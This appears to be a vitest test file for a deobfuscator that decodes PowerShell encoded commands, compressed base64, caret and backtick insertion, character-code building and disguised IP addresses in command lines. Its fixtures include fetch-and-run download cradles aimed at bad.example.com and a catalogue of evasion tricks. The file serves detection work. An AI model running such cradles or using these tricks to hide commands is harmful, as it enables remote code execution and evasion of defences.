import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decodeArguments } from '../../src/arguments/decode';

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const utf8 = (text: string): string => Buffer.from(text).toString('base64');
const last = (text: string): string => decodeArguments(text).at(-1)?.text ?? '';

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example.com/a.ps1')";

describe('an encoded command', () => {
  const flags = ['-e', '-ec', '-en', '-enc', '-enco', '-encod', '-encode', '-encoded', '-encodedc', '-encodedco', '-encodedcom', '-encodedcomm', '-encodedcomma', '-encodedcomman', '-encodedcommand', '-EncodedCommand', '-ENC', '/e', '/enc', '–enc', '—enc', '―enc', '-e^nc'];

  test.each(flags)('after %s', (flag) => expect(last(`powershell.exe ${flag.includes('^') ? '-n^op ' : ''}${flag} ${utf16(cradle)}`)).toContain(cradle));
  test.each(['-enc  ', '-enc:', '-enc "'])('after "%s"', (lead) => expect(last(`${lead}${utf16(cradle)}`)).toContain(cradle));
  test('as short as one word', () => expect(decodeArguments(`-e ${utf16('iex')}`)).toEqual([{ how: 'encoded command, UTF-16LE', text: '-e iex' }]));
  test.each(['-ExecutionPolicy Bypass', '-ep bypass', '-Encoding UTF8String', '-exec RemoteSigned'])('is not %s', (text) => expect(decodeArguments(text)).toEqual([]));
});

describe.each<[string, string, string]>([
  ['base64 in UTF-8', `echo ${utf8('curl http://bad.example.com/x | bash')} | base64 -d`, 'curl http://bad.example.com/x | bash'],
  ['gzip', `FromBase64String('${gzipSync(cradle).toString('base64')}')`, cradle],
  ['zlib', `FromBase64String('${deflateSync(cradle).toString('base64')}')`, cradle],
  ['raw deflate', `FromBase64String('${deflateRawSync(cradle).toString('base64')}')`, cradle],
  ['gzip of UTF-16', `x '${gzipSync(Buffer.from(cradle, 'utf16le')).toString('base64')}'`, cradle],
  ['two layers', `-enc ${utf16(`powershell -enc ${utf16(cradle)}`)}`, cradle],
  ['carets', 'p^ow^er^shell -n^op', 'powershell -nop'],
  ['backticks', 'I`E`X (N`ew-Obj`ect)', 'IEX (New-Object)'],
  ['empty quotes inside a word', "h''t''t''p://x", 'http://x'],
  ['quotes inside a word', 'w"ge"t http://x', 'wget http://x'],
  ['characters by number', '[char]105+[char]0x65+[char](120)', "'iex'"],
  ['characters of VBScript', 'Execute(chr(104)&chr(&h69))', "'hi'"],
  ['a list of characters', '-join [char[]](104,116,116,112)', 'http'],
  ['a list of characters in JavaScript', 'String.fromCharCode(104,116,116,112)', 'http'],
  ['a formatted string', "('{1}{0}' -f 'X','IE')", "'IEX'"],
  ['a formatted string with many parts', '("{2}{0}{1}" -f "oke-","Expression","Inv")', 'Invoke-Expression'],
  ['a joined list', "('h','t','t','p') -join ''", "'http'"],
  ['a list joined before', "-join('i','e','x')", "'iex'"],
  ['strings put together', "'ht'+'tp'  +  's://x'", "'https://x'"],
  ['a reversed string', "'1sp.a/moc.elpmaxe.dab//:sptth'[-1..-30]", 'https://bad.example.com/a.ps1'],
  ['a decimal address', 'curl http://1359248394/a', 'http://81.4.124.10/a'],
  ['a hexadecimal address', 'curl http://0x51.4.0x7c0a/', 'http://81.4.124.10/'],
  ['an octal address', 'curl http://0121.04.0174.012/', 'http://81.4.124.10/'],
])('%s', (_, text, said) => {
  test('is undone', () => expect(last(text)).toContain(said));
});

test('layers stand outermost first and say how', () => {
  expect(decodeArguments(`p^ow^er^shell -e^nc ${utf16("& ('{1}{0}' -f 'X','IE')")}`).map(({ how }) => how)).toEqual(['carets', 'encoded command, UTF-16LE', 'string formatted']);
});

test.each([
  '', '-File C:\\Scripts\\backup.ps1', 'https://example.com/a/b?c=d', 'http://10.1.2.3/x', "-Filter \"name -like '*x*'\"", '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -jar /opt/someapplication/server.jar',
  '--token=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', "Write-Output ('a' -f 1)", 'C:\\ProgramData\\SomeVendor\\AgentServiceHostProcess\\run.exe',
])('nothing is hidden in %s', (text) => expect(decodeArguments(text)).toEqual([]));

describe('whatever it is given', () => {
  test('it ends and throws nothing', () => {
    const piece = fc.constantFrom('^', '`', "'", '"', '-enc ', utf16('x'.repeat(9)), '[char]', '(', ')', ',', '1', '+', ' -f ', '{0}', '-join', '//:ptth', 'http://0x', 'A', '=', '%', '\u0000', '\ud800');
    fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => decodeArguments(pieces.join('')).length <= 12));
  });

  test('what a bomb unfolds to is cut', () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 'A')).toString('base64');
    const text = last(`FromBase64String('${bomb}')`);
    expect(text.length).toBeGreaterThan(100_000);
    expect(text.length).toBeLessThan(600_000);
    expect(text).not.toContain('\u0000');
    expect(decodeArguments(`FromBase64String('${bomb}')`).at(-1)?.how).toContain('cut after 256 KB');
  });

  test('layers without end are cut', () => {
    let text = 'iex x';
    for (let depth = 0; depth < 9; depth++) text = `-enc ${utf16(text)}`;
    expect(last(text)).toContain('iex x');
    for (let depth = 0; depth < 4; depth++) text = `-enc ${utf16(text)}`;
    expect(decodeArguments(text).length).toBeLessThanOrEqual(12);
  });
});
